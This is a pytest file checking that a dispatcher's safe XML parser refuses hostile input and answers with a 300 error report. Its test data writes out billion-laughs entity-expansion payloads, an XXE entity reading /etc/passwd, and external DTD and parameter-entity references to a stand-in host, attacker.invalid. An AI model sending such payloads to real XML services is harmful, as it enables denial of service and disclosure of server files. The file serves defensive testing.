"""Hostile XML never gets past the parser, and ends as a clear 300 report to its sender."""

from __future__ import annotations

from typing import Any

import pytest

from hub_dispatcher.outcome import Report
from hub_dispatcher.reports import UNKNOWN_DISTRIBUTION_ID, ErrorCode
from hub_dispatcher.xmlcodec import SafeXmlParser, XmlInputError, XmlLimits
from tests.unit.dispatcher.dispatch_support import xml_inbound

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<edxlDistribution xmlns="urn:oasis:names:tc:emergency:EDXL:DE:2.0">&lol4;</edxlDistribution>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<edxlDistribution xmlns="urn:oasis:names:tc:emergency:EDXL:DE:2.0"><distributionID>&xxe;</distributionID></edxlDistribution>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE edxlDistribution SYSTEM "http://attacker.invalid/evil.dtd">
<edxlDistribution xmlns="urn:oasis:names:tc:emergency:EDXL:DE:2.0"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]><r/>"""


def deep(levels: int) -> bytes:
    return b"<a>" * levels + b"</a>" * levels


@pytest.mark.parametrize(("body", "expected"), [
    (BILLION_LAUGHS, "DTD"),
    (EXTERNAL_ENTITY, "DTD"),
    (EXTERNAL_DTD, "DTD"),
    (PARAMETER_ENTITY, "DTD"),
    (deep(65), "nested deeper than 64"),
    (deep(5000), "Excessive depth"),  # libxml2 itself stops at 256 without huge_tree
    (b"<a>" + b"x" * (1024 * 1024) + b"</a>", "the limit is 1048576"),
    (b"<a><b></a>", "not well-formed"),
    (b"", "not well-formed"),
    (b"\xff\xfe<\x00a\x00/\x00>\x00junk", "not well-formed"),
], ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "depth-65", "depth-5000",
        "oversize", "unbalanced", "empty", "garbage"])
def test_parser_refuses_hostile_xml(body: bytes, expected: str) -> None:
    with pytest.raises(XmlInputError, match=expected):
        SafeXmlParser(XmlLimits(max_bytes=1024 * 1024, max_depth=64)).parse(body)


def test_parser_accepts_the_depth_limit_itself() -> None:
    assert SafeXmlParser(XmlLimits(max_depth=64)).parse(deep(64)).tag == "a"


def test_entities_are_never_expanded_even_if_smuggled_past_the_text_check() -> None:
    # A DTD hidden behind an encoding the byte check cannot see must still be refused after parsing.
    body = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e "boom">]><r>&e;</r>'.encode("utf-16")
    with pytest.raises(XmlInputError):
        SafeXmlParser().parse(body)


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, deep(200)], ids=["laughs", "xxe", "deep"])
def test_hostile_xml_ends_as_a_300_report(make_pipeline: Any, body: bytes) -> None:
    outcome = make_pipeline().process(xml_inbound(body, "fr.fire.nexsis.sdis50"))
    assert isinstance(outcome, Report)
    assert outcome.code is ErrorCode.INVALID_MESSAGE
    assert outcome.referenced_distribution_id == UNKNOWN_DISTRIBUTION_ID
    assert b"/etc/passwd" not in outcome.body or b"root:" not in outcome.body
    assert b"lollollol" not in outcome.body


def test_invalid_limits_are_refused() -> None:
    with pytest.raises(ValueError, match="limits must be positive"):
        XmlLimits(max_bytes=0)
